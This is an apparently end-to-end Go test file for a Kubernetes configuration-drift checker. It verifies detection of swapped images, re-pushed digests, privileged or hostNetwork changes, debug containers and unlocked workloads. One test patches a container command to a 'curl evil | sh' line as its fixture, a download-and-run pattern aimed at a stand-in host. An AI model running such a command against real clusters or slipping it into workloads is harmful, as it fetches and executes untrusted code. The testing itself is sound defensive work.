package e2e

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestCheckImageSwappedWithSetImage(t *testing.T) {
	t.Parallel()
	s := webScenario(t, "drift-image")
	expect(t, s.drift("lock", "-n", s.ns), 0)

	s.kubectl("set", "image", "deployment/web", "nginx="+webImageNew)
	r := s.drift("check", "--color=never")
	expect(t, r, 1)
	contains(t, "diff", r.stdout,
		"--- lock apps/Deployment/drift-image/web",
		"+++ live apps/Deployment/drift-image/web (pod template",
		"-      image: "+webImage, "+      image: "+webImageNew,
		"-      digest: sha256:1111", "+      digest: sha256:4444",
		"drift: 1 changed")

	// --color=always colours even a pipe; auto (the default) does not.
	r = s.drift("check", "--color=always")
	expect(t, r, 1)
	contains(t, "coloured diff", r.stdout, "\x1b[1m--- lock", "\x1b[36m@@ ", "\x1b[31m-      image: ", "\x1b[32m+      image: ")
	if r = s.drift("check"); strings.Contains(r.stdout, "\x1b[") {
		t.Errorf("--color=auto coloured a pipe: %q", r.stdout)
	}
}

func TestCheckRepushedTagInPodStatus(t *testing.T) {
	t.Parallel()
	s := lockedGhostScenario(t, "drift-repush")
	contains(t, "lockfile", string(readFile(t, s.lockfile)), "digest: "+digest("a"))
	expect(t, s.drift("check"), 0)

	// The same digest in another runtime's format is no drift.
	s.setRunning("api", "api", apiImage, "registry.local/shop/api@"+digest("a"))
	expect(t, s.drift("check"), 0)

	// The same tag, re-pushed with other content.
	s.setRunning("api", "api", apiImage, "registry.local/shop/api@"+digest("b"))
	r := s.drift("check", "-o", "json")
	expect(t, r, 1)
	var doc struct {
		Drift    bool `json:"drift"`
		Findings []struct {
			Workload  map[string]string `json:"workload"`
			Container string            `json:"container"`
			Reason    string            `json:"reason"`
			Pods      []string          `json:"pods"`
			Changes   []struct{ Field, Locked, Live string }
		} `json:"findings"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil {
		t.Fatalf("stdout is not one JSON document: %v\n%s", err, r.stdout)
	}
	if !doc.Drift || len(doc.Findings) != 1 {
		t.Fatalf("want one finding, got %s", r.stdout)
	}
	f := doc.Findings[0]
	if f.Workload["kind"] != "Pod" || f.Workload["name"] != "api" || f.Container != "api" || f.Reason != "changed" ||
		len(f.Pods) != 1 || f.Pods[0] != "api" || len(f.Changes) != 1 ||
		f.Changes[0].Field != "digest" || f.Changes[0].Locked != digest("a") || f.Changes[0].Live != digest("b") {
		t.Fatalf("unexpected finding: %+v", f)
	}
}

func TestCheckPrivilegedAndCapability(t *testing.T) {
	t.Parallel()
	s := webScenario(t, "drift-privileged")
	expect(t, s.drift("lock", "-n", s.ns), 0)

	s.kubectl("patch", "deployment", "web", "--type=json", "-p",
		`[{"op":"add","path":"/spec/template/spec/containers/0/securityContext/privileged","value":true},`+
			`{"op":"replace","path":"/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation","value":true},`+
			`{"op":"add","path":"/spec/template/spec/containers/0/securityContext/capabilities/add","value":["NET_ADMIN"]}]`)
	r := s.drift("check", "-o", "json")
	expect(t, r, 1)
	contains(t, "json", r.stdout, `"field": "securityContext.privileged"`, `"field": "securityContext.capabilities.add"`,
		`"live": "NET_ADMIN"`, `"field": "securityContext.allowPrivilegeEscalation"`)

	r = s.drift("check", "--color=never")
	contains(t, "diff", r.stdout, "-        privileged: false", "+        privileged: true", "+            - NET_ADMIN")
}

func TestCheckHostNetworkOnCronJobTemplate(t *testing.T) {
	t.Parallel()
	s := webScenario(t, "drift-cron")
	expect(t, s.drift("lock", "-n", s.ns), 0)

	s.kubectl("patch", "cronjob", "nightly", "--type=merge", "-p",
		`{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"hostNetwork":true}}}}}}`)
	r := s.drift("check", "--color=never")
	expect(t, r, 1)
	contains(t, "diff", r.stdout, "--- lock batch/CronJob/drift-cron/nightly", "-    hostNetwork: false", "+    hostNetwork: true")
}

func TestCheckChangedCommand(t *testing.T) {
	t.Parallel()
	s := webScenario(t, "drift-command")
	expect(t, s.drift("lock", "-n", s.ns), 0)

	s.kubectl("patch", "deployment", "web", "--type=json", "-p",
		`[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["/bin/sh","-c","curl evil | sh"]}]`)
	r := s.drift("check", "-o", "json")
	expect(t, r, 1)
	contains(t, "json", r.stdout, `"field": "entrypoint"`)
	if strings.Contains(r.stdout+r.stderr, "curl evil") {
		t.Fatal("the command's text leaked into the output")
	}
}

func TestCheckEphemeralContainer(t *testing.T) {
	t.Parallel()
	s := lockedGhostScenario(t, "drift-debug")

	s.kubectl("debug", "api", "--image=registry.local/tools/busybox:1.36", "--container=debugger", "--profile=general")
	r := s.drift("check", "--color=never")
	expect(t, r, 1)
	contains(t, "diff", r.stdout, "+    - name: debugger", "+      ephemeral: true", "1 ephemeral")

	// lock never approves an ephemeral container.
	r = s.drift("lock", "-n", s.ns)
	expect(t, r, 0)
	contains(t, "lock stderr", r.stderr, `skipping ephemeral container "debugger"`)
	expect(t, s.drift("check"), 1)
}

func TestCheckUnlockedAndMissing(t *testing.T) {
	t.Parallel()
	s := webScenario(t, "drift-unlocked")
	expect(t, s.drift("lock", "-n", s.ns), 0)

	s.kubectl("create", "deployment", "intruder", "--image="+webImageNew)
	s.kubectl("delete", "cronjob", "nightly")
	r := s.drift("check", "--color=never")
	expect(t, r, 1)
	contains(t, "diff", r.stdout,
		"--- lock (not locked)", "+++ live apps/Deployment/drift-unlocked/intruder (pod template)",
		"--- lock batch/CronJob/drift-unlocked/nightly", "+++ live (not found)",
		"1 unlocked", "1 missing")
}

func TestCheckUnverifiedWhenRuntimeGivesNoIdentity(t *testing.T) {
	t.Parallel()
	s := lockedGhostScenario(t, "drift-unverified")

	// A runtime that reports only the image config ID cannot be compared
	// with the locked registry digest: not verified, exit 2.
	s.setRunning("api", "api", apiImage, digest("c"))
	r := s.drift("check", "--color=never")
	expect(t, r, 2)
	contains(t, "stdout", r.stdout, "unverified: Pod/drift-unverified/api container \"api\"", "1 unverified")
}
